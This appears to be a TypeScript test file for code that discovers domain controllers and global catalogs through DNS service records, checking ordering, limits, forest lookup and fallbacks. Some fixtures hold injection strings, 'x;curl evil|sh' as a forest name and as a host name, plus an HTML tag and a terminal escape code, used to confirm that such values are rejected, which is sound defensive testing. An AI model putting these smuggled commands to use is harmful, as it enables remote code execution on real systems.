/** Domain controllers by the DNS service records of their domain: found, limited, and what is done when there are none. */
import { describe, expect, test } from 'vitest';
import {
  findControllers,
  unfoundControllers,
  type Introduction,
  type ServiceLookup,
} from '../../src/load/controllers.ts';
import type { RoleHosts } from '../../src/model/site.ts';
import { hostOf, roleOf, siteOf } from '../support/sites.ts';

type Records = Readonly<Record<string, readonly string[]>>;

type Said = Readonly<Record<string, Introduction>>;

/** `said`: what the controllers answer to a ping; nobody answers one where it is left out. */
function lookupIn(records: Records, said: Said = {}): ServiceLookup & { readonly asked: string[] } {
  const asked: string[] = [];
  return {
    asked,
    introductions: (controllers) =>
      Promise.resolve(new Map(Object.entries(said).filter(([name]) => controllers.includes(name)))),
    services: (name) => {
      asked.push(name);
      const names = records[name];
      if (!names) return Promise.reject(new Error(`${name}: no such name`));
      return Promise.resolve(names.map((each) => ({ name: each, port: 389 })));
    },
  };
}

const searched = (parts: Partial<RoleHosts> = {}): RoleHosts => roleOf([], { domain: 'corp.test', ...parts });

async function foundIn(role: RoleHosts, records: Records, said: Said = {}): Promise<RoleHosts> {
  return foundBy(role, lookupIn(records, said));
}

async function foundBy(role: RoleHosts, lookup: ServiceLookup): Promise<RoleHosts> {
  const site = await findControllers(siteOf({ 'domain-controller': role }), lookup);
  return site.roles['domain-controller']!;
}

const unknown =
  'corp.test has no records of global catalogs: which controllers are one is not known, one that answers is enough';

const dc = '_ldap._tcp.dc._msdcs.corp.test';
const gc = '_ldap._tcp.gc._msdcs.corp.test';

describe('a domain', () => {
  test('has the controllers of its records, in their order, each once', async () => {
    const role = await foundIn(searched(), { [dc]: ['DC2.corp.test', 'dc1.corp.test', 'dc2.corp.test'], [gc]: [] });
    expect(role.hosts).toEqual([
      hostOf('dc2.corp.test', { domain: 'corp.test' }),
      hostOf('dc1.corp.test', { domain: 'corp.test' }),
    ]);
    expect(role.notes).toEqual(['2 controllers of corp.test found by DNS', unknown]);
    expect(role.globalCatalogs).toEqual(role.hosts);
    expect(role.isCatalogUnknown).toBe(true);
  });

  test.for(['corp.test.', 'Corp.TEST', 'CORP.test.'])('may be written as %s', async (domain) => {
    const role = await foundIn(searched({ domain }), { [dc]: ['dc1.corp.test'], [gc]: ['dc1.corp.test'] });
    expect(role).toMatchObject({ domain: 'corp.test', hosts: [hostOf('dc1.corp.test', { domain: 'corp.test' })] });
  });

  test('is told with the DNS servers that were in the way', async () => {
    const lookup = lookupIn({ [dc]: ['dc1.corp.test'], [gc]: ['dc1.corp.test'] });
    const passedOverFor = (name: string): string[] => (name === dc ? ['DNS server 10.0.0.2 answered SERVFAIL'] : []);
    const services: ServiceLookup['services'] = (name) => lookup.services(name);
    const role = await foundBy(searched(), { services, passedOverFor });
    expect(role.notes).toEqual([
      '1 controller of corp.test found by DNS',
      `DNS server 10.0.0.2 answered SERVFAIL when asked for ${dc}`,
    ]);
  });

  test('that nobody wants catalogs of is not asked for them', async () => {
    const lookup = lookupIn({ [dc]: ['dc1.corp.test'] });
    const role = await foundBy(searched(), { services: (name) => lookup.services(name) });
    expect(role.globalCatalogs).toBeUndefined();
    expect(lookup.asked).toEqual([dc]);
  });

  test('has its global catalogs by the forest’s records', async () => {
    const role = await foundIn(searched(), { [dc]: ['dc1.corp.test'], [gc]: ['dc9.corp.test'] });
    expect(role.globalCatalogs).toEqual([hostOf('dc9.corp.test', { domain: 'corp.test' })]);
  });

  test.for([
    [undefined, 8],
    [3, 3],
    [20, 12],
  ] as const)('with twelve controllers and a limit of %s has %i checked, and says so', async ([limit, count]) => {
    const names = Array.from({ length: 12 }, (_, i) => `dc${i}.corp.test`);
    const role = await foundIn(searched(limit === undefined ? {} : { limit }), { [dc]: names, [gc]: names });
    expect(role.hosts.map(({ host }) => host)).toEqual(names.slice(0, count));
    expect(role.globalCatalogs).toHaveLength(count);
    const left = count < 12 ? `, the best ${count} are checked (limit: ${count})` : '';
    expect(role.notes).toEqual([`12 controllers of corp.test found by DNS${left}`]);
  });

  test('has its global catalogs in the forest that its controllers name', async () => {
    const said = { 'dc2.corp.test': { forest: 'Au.Other.test.', isGlobalCatalog: false } };
    const lookup = lookupIn(
      { [dc]: ['dc1.corp.test', 'dc2.corp.test'], '_gc._tcp.au.other.test': ['dc1.corp.test'] },
      said,
    );
    const role = await foundBy(searched(), lookup);
    expect(role.globalCatalogs?.map(({ host }) => host)).toEqual(['dc1.corp.test']);
    expect(role.isCatalogUnknown).toBeUndefined();
    expect(lookup.asked).toEqual([dc, '_ldap._tcp.gc._msdcs.au.other.test', '_gc._tcp.au.other.test']);
  });

  test('without records has the catalogs that say to be one', async () => {
    const said = {
      'dc1.corp.test': { forest: 'corp.test', isGlobalCatalog: false },
      'dc2.corp.test': { forest: 'corp.test', isGlobalCatalog: true },
    };
    const role = await foundIn(searched(), { [dc]: ['dc1.corp.test', 'dc2.corp.test'] }, said);
    expect(role.globalCatalogs?.map(({ host }) => host)).toEqual(['dc2.corp.test']);
    expect(role.isCatalogUnknown).toBeUndefined();
    expect(role.notes[1]).toBe('corp.test has no records of global catalogs: 1 of the controllers says to be one');
  });

  test('whose controllers name what is no forest is asked for the likely ones', async () => {
    const said = { 'dc1.corp.test': { forest: 'x;curl evil|sh', isGlobalCatalog: true } };
    const lookup = lookupIn({ [dc]: ['dc1.corp.test'] }, said);
    await foundBy(searched(), lookup);
    expect(lookup.asked).toEqual([dc, gc, '_gc._tcp.corp.test']);
  });

  test.for([
    ['corp', ['corp']],
    ['corp.test', ['corp.test']],
    ['inf.corp.test', ['inf.corp.test', 'corp.test']],
    ['corp.co.uk', ['corp.co.uk']],
    ['ad.corp.com.au', ['ad.corp.com.au', 'corp.com.au']],
    ['ad.bigcorp.de', ['ad.bigcorp.de', 'bigcorp.de']],
  ] as const)('%s: no parent below which anybody may register is asked', async ([domain, roots]) => {
    const record = `_ldap._tcp.dc._msdcs.${domain}`;
    const lookup = lookupIn({ [record]: [`dc1.${domain}`] });
    await foundBy(searched({ domain }), lookup);
    expect(lookup.asked).toEqual([
      record,
      ...roots.flatMap((root) => [`_ldap._tcp.gc._msdcs.${root}`, `_gc._tcp.${root}`]),
    ]);
  });

  test('has no controllers but those whose names can be names', async () => {
    const bad = [
      '10.9.9.9',
      '127.0.0.1',
      'a:b',
      '::1',
      '0.0.0.0',
      'x;curl evil|sh:',
      '<img src=x>',
      '\u001B[31mred',
      'a b',
    ];
    const role = await foundIn(searched(), { [dc]: [...bad, 'dc1.corp.test'], [gc]: bad });
    expect(role.hosts.map(({ host }) => host)).toEqual(['dc1.corp.test']);
    expect(role.globalCatalogs?.map(({ host }) => host)).toEqual(['dc1.corp.test']);
    expect(role.notes.join('\n')).toMatch(/point to what is no host's name, left out: "10\.9\.9\.9".* and 5 more/);
    // oxlint-disable-next-line no-control-regex -- that is the point
    expect(role.notes.join('')).not.toMatch(/\u001B/);
  });

  test('without the records of Active Directory is asked for plain ones', async () => {
    const lookup = lookupIn({ '_ldap._tcp.corp.test': ['ldap1.corp.test'], '_gc._tcp.corp.test': ['gc1.corp.test'] });
    const site = await findControllers(siteOf({ 'domain-controller': searched() }), lookup);
    expect(site.roles['domain-controller']?.hosts.map(({ host }) => host)).toEqual(['ldap1.corp.test']);
    expect(site.roles['domain-controller']?.globalCatalogs?.map(({ host }) => host)).toEqual(['gc1.corp.test']);
    expect(lookup.asked).toEqual([dc, '_ldap._tcp.corp.test', gc, '_gc._tcp.corp.test']);
  });

  test.for<Records>([{}, { [dc]: [] }, { [dc]: ['.'], '_ldap._tcp.corp.test': [''] }])(
    'that cannot be found (%j) is taken by its own name, with the reason',
    async (records) => {
      const role = await foundIn(searched(), records);
      expect(role.hosts).toEqual([hostOf('corp.test', { domain: 'corp.test' })]);
      expect(role.notes.at(-1)).toMatch(/^corp\.test has no service records .*: its own addresses are taken$/);
    },
  );
});

test('hosts that the site gives are not looked for', async () => {
  const site = siteOf({
    'domain-controller': roleOf(['192.0.2.5'], { domain: 'corp.test' }),
    vm: roleOf(['192.0.2.6']),
  });
  const lookup = lookupIn({});
  expect(await findControllers(site, lookup)).toEqual(site);
  expect(unfoundControllers(site)).toEqual(site);
  expect(lookup.asked).toEqual([]);
});

test('a plan asks nobody: the domain stands for its controllers, and the plan says so', () => {
  const { roles } = unfoundControllers(siteOf({ 'domain-controller': searched() }));
  expect(roles['domain-controller']).toMatchObject({
    hosts: [hostOf('corp.test', { domain: 'corp.test' })],
    notes: ['the controllers of corp.test are found by DNS when the check runs'],
  });
});
